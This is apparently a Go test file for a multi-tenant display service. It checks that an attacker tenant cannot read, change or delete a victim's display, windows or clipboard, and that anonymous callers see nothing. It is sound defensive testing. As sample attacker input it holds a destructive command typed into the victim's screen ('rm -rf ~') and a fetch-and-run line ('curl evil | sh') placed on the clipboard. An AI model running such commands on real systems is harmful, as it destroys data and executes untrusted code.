package display

import (
	"context"
	"io"
	"maps"
	"slices"
	"sync/atomic"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	displayv1 "github.com/deskgrid/deskgrid/proto/deskgrid/display/v1"
	"github.com/deskgrid/deskgrid/services/platform/auth"
	"github.com/deskgrid/deskgrid/services/platform/auth/authtest"
	"github.com/deskgrid/deskgrid/services/platform/testkit"
)

func asTenant(tb testing.TB, tenant string) context.Context {
	return authtest.As(ctxT(tb), tenant)
}

// sessionCalls make each RPC that names a session against id; the error is
// what the caller gets back.
var sessionCalls = map[string]func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error{
	"GetDisplay": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.GetDisplay(ctx, &displayv1.GetDisplayRequest{SessionId: id})
		return err
	},
	"Screenshot": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.Screenshot(ctx, &displayv1.ScreenshotRequest{SessionId: id})
		return err
	},
	"PerformActions": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.PerformActions(ctx, &displayv1.PerformActionsRequest{SessionId: id, Actions: []*displayv1.Action{
			{Action: &displayv1.Action_Click{Click: &displayv1.Click{At: &displayv1.Point{X: 10, Y: 10}}}},
			{Action: &displayv1.Action_Type{Type: &displayv1.TypeText{Text: "rm -rf ~"}}},
		}, Screenshot: true})
		return err
	},
	"ResizeDisplay": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.ResizeDisplay(ctx, &displayv1.ResizeDisplayRequest{SessionId: id, Width: 800, Height: 600})
		return err
	},
	"ConnectVNC": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		st, err := c.ConnectVNC(ctx)
		if err != nil {
			return err
		}
		if err := st.Send(&displayv1.ConnectVNCRequest{SessionId: id}); err != nil {
			return err
		}
		_, err = st.Recv()
		if err == io.EOF {
			return nil
		}
		return err
	},
	"GetClipboard": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.GetClipboard(ctx, &displayv1.GetClipboardRequest{SessionId: id})
		return err
	},
	"SetClipboard": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.SetClipboard(ctx, &displayv1.SetClipboardRequest{SessionId: id, Text: "curl evil | sh"})
		return err
	},
	"ListWindows": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.ListWindows(ctx, &displayv1.ListWindowsRequest{SessionId: id})
		return err
	},
	// The window calls name a window of the victim's display that exists
	// (victimWindow): another tenant still finds no session at all.
	"ActivateWindow": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.ActivateWindow(ctx, &displayv1.ActivateWindowRequest{SessionId: id, WindowId: victimWindow.Load()})
		return err
	},
	"CloseWindow": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.CloseWindow(ctx, &displayv1.CloseWindowRequest{SessionId: id, WindowId: victimWindow.Load(), Force: true})
		return err
	},
	"MoveWindow": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.MoveWindow(ctx, &displayv1.MoveWindowRequest{SessionId: id, WindowId: victimWindow.Load(), Geometry: &displayv1.Rect{X: 1, Y: 1, Width: 50, Height: 50}})
		return err
	},
	"SetWindowState": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.SetWindowState(ctx, &displayv1.SetWindowStateRequest{SessionId: id, WindowId: victimWindow.Load(), State: displayv1.WindowState_WINDOW_STATE_MINIMIZED})
		return err
	},
	"StartRecording": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.StartRecording(ctx, &displayv1.StartRecordingRequest{SessionId: id})
		return err
	},
	"StopRecording": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.StopRecording(ctx, &displayv1.StopRecordingRequest{SessionId: id, RecordingId: "rec-0123456789"})
		return err
	},
	"DeleteDisplay": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
		_, err := c.DeleteDisplay(ctx, &displayv1.DeleteDisplayRequest{SessionId: id})
		return err
	},
}

// victimWindow is the id of a window open on the victim's display.
var victimWindow atomic.Uint32

// tenantWideCalls are the RPCs that name no existing session; the test
// checks them on their own.
var tenantWideCalls = []string{"CreateDisplay", "ListDisplays"}

// Every RPC must be checked for ownership: one added to the service without
// an entry here fails.
func TestTenancyCoversEveryRPC(t *testing.T) {
	authtest.RequireCases(t, displayv1.DisplayService_ServiceDesc, slices.Collect(maps.Keys(sessionCalls)), tenantWideCalls)
}

// An attacker tenant gets, for the victim's session, exactly the answer it
// gets for a session that does not exist; it sees nothing of it in lists,
// and the victim is unaffected.
func TestTenancyIsolatesDisplays(t *testing.T) {
	s, c := testServiceDeps(t, "", Deps{Tenancy: authtest.Tenancy})
	victim, attacker := asTenant(t, authtest.Victim), asTenant(t, authtest.Attacker)
	if _, err := c.CreateDisplay(victim, &displayv1.CreateDisplayRequest{SessionId: "victim-sess", Width: 640, Height: 480}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.CreateDisplay(attacker, &displayv1.CreateDisplayRequest{SessionId: "attacker-sess", Width: 320, Height: 240}); err != nil {
		t.Fatal(err)
	}
	before, err := c.Screenshot(victim, &displayv1.ScreenshotRequest{SessionId: "victim-sess"})
	if err != nil {
		t.Fatal(err)
	}
	// The victim has a window, and text on its clipboard.
	xc := clientConn(t, s, "victim-sess")
	win := appWindow{title: "victim's", x: 10, y: 10, w: 100, h: 80}.create(t, xc)
	victimWindow.Store(uint32(win))
	if _, err := c.SetClipboard(victim, &displayv1.SetClipboardRequest{SessionId: "victim-sess", Text: "victim's secret"}); err != nil {
		t.Fatal(err)
	}

	// Delete last, so every other call meets a display that still exists.
	for _, name := range authtest.Names(sessionCalls, "DeleteDisplay") {
		call := sessionCalls[name]
		t.Run(name, func(t *testing.T) {
			got := call(attacker, c, "victim-sess")
			unknown := call(attacker, c, "no-such-sess")
			gc, gm := authtest.Answer(got, "victim-sess")
			uc, um := authtest.Answer(unknown, "no-such-sess")
			if gc != uc || gm != um {
				t.Fatalf("another tenant's session answers %v %q, an unknown one %v %q", gc, gm, uc, um)
			}
			if name != "DeleteDisplay" && gc != codes.NotFound {
				t.Fatalf("another tenant's session: %v %q, want NotFound", gc, gm)
			}
			// The victim still has its display, unchanged.
			resp, err := c.GetDisplay(victim, &displayv1.GetDisplayRequest{SessionId: "victim-sess"})
			if err != nil {
				t.Fatalf("victim after %s: %v", name, err)
			}
			if d := resp.GetDisplay(); d.GetWidth() != 640 || d.GetHeight() != 480 {
				t.Fatalf("victim's display is %dx%d after %s, want 640x480", d.GetWidth(), d.GetHeight(), name)
			}
			if ws := resp.GetDisplay().GetWindows(); len(ws) != 1 || ws[0].GetId() != uint32(win) || ws[0].GetGeometry().GetWidth() != 100 || !ws[0].GetMapped() {
				t.Fatalf("victim's windows after %s: %v", name, ws)
			}
			clip, err := c.GetClipboard(victim, &displayv1.GetClipboardRequest{SessionId: "victim-sess"})
			if err != nil || clip.GetText() != "victim's secret" {
				t.Fatalf("victim's clipboard after %s: %v, %v", name, clip, err)
			}
		})
	}

	t.Run("ListDisplays", func(t *testing.T) {
		for _, tc := range []struct {
			ctx  context.Context
			want []string
		}{
			{attacker, []string{"attacker-sess"}},
			{victim, []string{"victim-sess"}},
			{ctxT(t), []string{"attacker-sess", "victim-sess"}}, // a system call for no tenant
		} {
			resp, err := c.ListDisplays(tc.ctx, &displayv1.ListDisplaysRequest{})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, d := range resp.GetDisplays() {
				got = append(got, d.GetSessionId())
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("listed %v, want %v", got, tc.want)
			}
		}
	})

	t.Run("CreateDisplay", func(t *testing.T) {
		// Session ids are the session service's: taking one already in use
		// fails whoever owns it, and the display stays its owner's.
		_, err := c.CreateDisplay(attacker, &displayv1.CreateDisplayRequest{SessionId: "victim-sess"})
		if status.Code(err) != codes.AlreadyExists {
			t.Fatalf("create over another tenant's session: %v, want AlreadyExists", err)
		}
		if _, err := c.GetDisplay(attacker, &displayv1.GetDisplayRequest{SessionId: "victim-sess"}); status.Code(err) != codes.NotFound {
			t.Fatalf("attacker reads the victim's display after a failed create: %v", err)
		}
	})

	after, err := c.Screenshot(victim, &displayv1.ScreenshotRequest{SessionId: "victim-sess"})
	if err != nil {
		t.Fatalf("victim's screenshot: %v", err)
	}
	if after.GetWidth() != before.GetWidth() || after.GetHeight() != before.GetHeight() {
		t.Fatalf("victim's screen changed from %dx%d to %dx%d", before.GetWidth(), before.GetHeight(), after.GetWidth(), after.GetHeight())
	}
	// The owner, and a system call, can still do everything.
	for _, ctx := range []context.Context{victim, ctxT(t)} {
		if _, err := c.ResizeDisplay(ctx, &displayv1.ResizeDisplayRequest{SessionId: "victim-sess", Width: 800, Height: 600}); err != nil {
			t.Fatalf("owner's resize: %v", err)
		}
	}
	if _, err := c.DeleteDisplay(victim, &displayv1.DeleteDisplayRequest{SessionId: "victim-sess"}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.GetDisplay(victim, &displayv1.GetDisplayRequest{SessionId: "victim-sess"}); status.Code(err) != codes.NotFound {
		t.Fatalf("after the owner's delete: %v, want NotFound", err)
	}
}

// The owner is recorded beside the display, for whatever reads the record
// after a restart.
func TestTenantRecordedInMeta(t *testing.T) {
	s, c := testServiceDeps(t, "", Deps{Tenancy: authtest.Tenancy})
	if _, err := c.CreateDisplay(asTenant(t, "acme"), &displayv1.CreateDisplayRequest{SessionId: "meta-sess", Width: 320, Height: 240}); err != nil {
		t.Fatal(err)
	}
	m, err := readMeta(s.sessionDir("meta-sess"))
	if err != nil {
		t.Fatal(err)
	}
	if m.Tenant != "acme" {
		t.Fatalf("meta tenant %q, want acme", m.Tenant)
	}
}

// A warm display taken by a session belongs to that session's tenant.
func TestTenancyWarmDisplay(t *testing.T) {
	dir := t.TempDir()
	cfg := DefaultConfig()
	cfg.RuntimeDir = dir
	cfg.WarmDisplays = 1
	s, err := New(context.Background(), cfg, Deps{Tenancy: authtest.Tenancy})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.Close(context.Background()) })
	testkit.Eventually(t, 20*time.Second, func() bool { return len(s.pool.ready) == 1 }, "a warm display")
	ctx := authtest.Incoming(ctxT(t), "acme")
	if _, err := s.CreateDisplay(ctx, &displayv1.CreateDisplayRequest{SessionId: "warm-sess"}); err != nil {
		t.Fatal(err)
	}
	other := authtest.Incoming(ctxT(t), "other")
	if _, err := s.GetDisplay(other, &displayv1.GetDisplayRequest{SessionId: "warm-sess"}); status.Code(err) != codes.NotFound {
		t.Fatalf("another tenant reads a warm-started display: %v", err)
	}
	if _, err := s.GetDisplay(ctx, &displayv1.GetDisplayRequest{SessionId: "warm-sess"}); err != nil {
		t.Fatal(err)
	}
	if m, err := readMeta(s.sessionDir("warm-sess")); err != nil || m.Tenant != "acme" {
		t.Fatalf("meta %+v, %v: want tenant acme", m, err)
	}
}

// With auth on, a call that reaches the service with no principal (past
// the interceptors, as an in-process caller could) is anonymous: it is not
// the system, so it sees no display, not even one made for no tenant, and
// may not create one.
func TestTenancyAnonymousIsNotTheSystem(t *testing.T) {
	s, _ := testServiceDeps(t, "", Deps{Tenancy: authtest.AuthOn})
	system := auth.AsSystem(ctxT(t))
	if _, err := s.CreateDisplay(system, &displayv1.CreateDisplayRequest{SessionId: "system-sess", Width: 320, Height: 240}); err != nil {
		t.Fatal(err)
	}
	anon := ctxT(t)
	if _, err := s.GetDisplay(anon, &displayv1.GetDisplayRequest{SessionId: "system-sess"}); status.Code(err) != codes.NotFound {
		t.Fatalf("anonymous GetDisplay of the system's display: %v, want NotFound", err)
	}
	if _, err := s.Screenshot(anon, &displayv1.ScreenshotRequest{SessionId: "system-sess"}); status.Code(err) != codes.NotFound {
		t.Fatalf("anonymous Screenshot of the system's display: %v, want NotFound", err)
	}
	if l, err := s.ListDisplays(anon, &displayv1.ListDisplaysRequest{}); err != nil || len(l.GetDisplays()) != 0 {
		t.Fatalf("anonymous ListDisplays: %v, %v; want none", l.GetDisplays(), err)
	}
	if _, err := s.CreateDisplay(anon, &displayv1.CreateDisplayRequest{SessionId: "anon-sess", Width: 320, Height: 240}); status.Code(err) != codes.Unauthenticated {
		t.Fatalf("anonymous CreateDisplay: %v, want Unauthenticated", err)
	}
	if _, err := s.GetDisplay(system, &displayv1.GetDisplayRequest{SessionId: "system-sess"}); err != nil {
		t.Fatalf("the system lost its own display: %v", err)
	}
}
